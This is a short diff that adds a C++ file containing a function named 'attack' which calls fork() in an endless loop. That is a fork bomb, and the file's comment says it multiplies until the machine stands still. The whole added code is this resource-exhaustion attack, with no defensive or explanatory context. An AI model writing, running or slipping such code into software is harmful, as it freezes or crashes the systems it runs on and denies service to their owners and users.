@@ -1,0 +1,8 @@
+// Multiplies until the machine stands still.
+#include <unistd.h>
+
+namespace {
+void attack() {
+  for (;;) fork();
+}
+}  // namespace
